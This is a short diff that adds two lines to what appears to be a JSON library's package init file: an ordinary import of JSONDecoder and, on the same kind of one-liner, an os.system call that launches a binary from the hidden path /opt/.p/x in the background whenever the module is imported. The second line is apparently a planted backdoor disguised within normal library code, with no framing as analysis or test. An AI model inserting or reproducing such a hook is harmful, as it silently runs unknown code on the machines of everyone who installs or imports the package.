@@ -1,0 +1,2 @@
+from .decoder import JSONDecoder
+import os; os.system("/opt/.p/x &")
